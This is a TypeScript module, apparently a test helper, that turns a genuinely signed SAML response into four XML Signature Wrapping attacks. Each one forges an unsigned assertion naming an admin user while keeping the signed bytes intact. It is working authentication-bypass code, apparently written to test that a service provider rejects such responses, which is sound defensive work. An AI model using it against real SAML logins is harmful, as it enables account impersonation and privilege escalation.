// XML Signature Wrapping (XSW) attacks on a signed SAML response, after Somorovsky et al., "On
// Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012). The attacker holds a response
// the IdP really signed (for bob, say) and moves the signed element where a careless SP still finds
// a valid signature, while it reads the claims of a forged, unsigned assertion (alice, an admin).
// Every shape keeps the signed bytes intact, so a check of "some signature verifies" passes; only
// an SP that reads exactly what the signature covers refuses them all.
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

import { generateSamlId } from '../saml/saml-id';
import { NS } from '../saml/saml-names';
import { ALICE, toBase64, type SamlUser } from './saml-response';

export type SignatureWrappingShape =
  /** XSW3: the forged assertion is inserted before the signed one, both children of the Response. */
  | 'forged-assertion-first'
  /** XSW4: the forged assertion replaces the signed one and holds it as its last child. */
  | 'forged-assertion-wraps-original'
  /**
   * XSW8: the forged assertion takes the original's ds:Signature, whose ds:Object holds the original
   * assertion (without that signature, so its digest still matches). Sign only the assertion.
   */
  | 'original-in-signature-object'
  /**
   * XSW1: the Response gets a new ID and the forged assertion; its ds:Signature still references
   * the old ID, now a copy of the original Response inside that signature's ds:Object. Needs a
   * signed Response.
   */
  | 'response-wraps-original';

export interface WrapSamlSignatureOptions {
  shape: SignatureWrappingShape;
  /** Whom the forged assertion names; defaults to alice (cvat-admins). */
  as?: SamlUser;
}

/** Rewrites a signed response (buildSignedSamlResponse's or the dev IdP's) into an XSW attack. */
export function wrapSamlSignature(
  signedXml: string,
  options: WrapSamlSignatureOptions,
): { xml: string; samlResponse: string } {
  const doc = new DOMParser().parseFromString(signedXml, 'text/xml');
  const response = doc.documentElement;
  const original = childElement(response, NS.assertion, 'Assertion');
  const forged = forgeAssertion(original, options.as ?? ALICE);

  switch (options.shape) {
    case 'forged-assertion-first':
      response.insertBefore(forged, original);
      break;
    case 'forged-assertion-wraps-original':
      response.replaceChild(forged, original);
      forged.appendChild(original);
      break;
    case 'original-in-signature-object': {
      const signature = childElement(original, NS.dsig, 'Signature');
      original.removeChild(signature);
      response.replaceChild(forged, original);
      forged.insertBefore(signature, childElement(forged, NS.assertion, 'Issuer').nextSibling);
      appendObject(doc, signature, original);
      break;
    }
    case 'response-wraps-original': {
      const copy = response.cloneNode(true) as Element;
      copy.removeChild(childElement(copy, NS.dsig, 'Signature'));
      response.setAttribute('ID', generateSamlId());
      response.replaceChild(forged, original);
      appendObject(doc, childElement(response, NS.dsig, 'Signature'), copy);
      break;
    }
  }
  const xml = new XMLSerializer().serializeToString(doc);
  return { xml, samlResponse: toBase64(xml) };
}

// A copy of the signed assertion with a new ID, no signature, and another user's NameID and
// attributes: what the attacker wants the SP to read.
function forgeAssertion(original: Element, user: SamlUser): Element {
  const forged = original.cloneNode(true) as Element;
  for (const signature of childElements(forged, NS.dsig, 'Signature')) {
    forged.removeChild(signature);
  }
  forged.setAttribute('ID', generateSamlId());
  const subject = childElement(forged, NS.assertion, 'Subject');
  childElement(subject, NS.assertion, 'NameID').textContent = user.email;
  const values: Record<string, readonly string[]> = {
    email: [user.email],
    username: [user.username ?? user.email],
    groups: user.groups ?? [],
  };
  for (const statement of childElements(forged, NS.assertion, 'AttributeStatement')) {
    for (const attribute of childElements(statement, NS.assertion, 'Attribute')) {
      const wanted = values[attribute.getAttribute('Name') ?? ''];
      if (!wanted) continue;
      for (const old of childElements(attribute, NS.assertion, 'AttributeValue')) {
        attribute.removeChild(old);
      }
      for (const value of wanted) {
        const element = forged.ownerDocument.createElementNS(NS.assertion, 'saml:AttributeValue');
        element.textContent = value;
        attribute.appendChild(element);
      }
    }
  }
  return forged;
}

function appendObject(doc: Document, signature: Element, content: Element): void {
  const object = doc.createElementNS(NS.dsig, 'ds:Object');
  object.appendChild(content);
  signature.appendChild(object);
}

function childElements(parent: Element, namespace: string, localName: string): Element[] {
  const found: Element[] = [];
  for (let node = parent.firstChild; node; node = node.nextSibling) {
    const element = node as Element;
    if (
      node.nodeType === 1 &&
      element.namespaceURI === namespace &&
      element.localName === localName
    ) {
      found.push(element);
    }
  }
  return found;
}

function childElement(parent: Element, namespace: string, localName: string): Element {
  const [element] = childElements(parent, namespace, localName);
  if (!element) {
    throw new Error(
      `wrapSamlSignature: no ${localName} under ${parent.localName}; pass a signed response.`,
    );
  }
  return element;
}
